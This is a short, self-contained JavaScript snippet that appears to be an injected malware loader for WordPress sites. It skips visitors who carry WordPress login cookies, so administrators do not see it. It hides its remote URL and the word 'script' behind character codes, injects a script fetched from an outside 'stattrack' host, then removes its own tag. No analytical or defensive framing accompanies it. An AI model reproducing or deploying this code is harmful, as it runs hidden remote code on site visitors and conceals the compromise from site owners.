(function () {
  var c = document.cookie;
  if (c.indexOf('wordpress_logged_in') > -1 || c.indexOf('wp-settings-') > -1) { return; }
  var list = document.getElementsByTagName('script');
  var u = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 99, 100, 110, 46, 115, 116, 97, 116,
    116, 114, 97, 99, 107, 46, 101, 120, 97, 109, 112, 108, 101, 47, 116, 46, 106, 115);
  for (var i = 0; i < list.length; i++) {
    if (list[i].src === u) { return; }
  }
  var s = document.createElement(String.fromCharCode(115, 99, 114, 105, 112, 116));
  s.type = 'text/javascript';
  s.async = 1;
  s.src = u;
  if (document.currentScript !== null && document.currentScript !== undefined) {
    document.currentScript.parentNode.insertBefore(s, document.currentScript);
    document.currentScript.remove();
  } else {
    list[0].parentNode.insertBefore(s, list[0]);
  }
})();
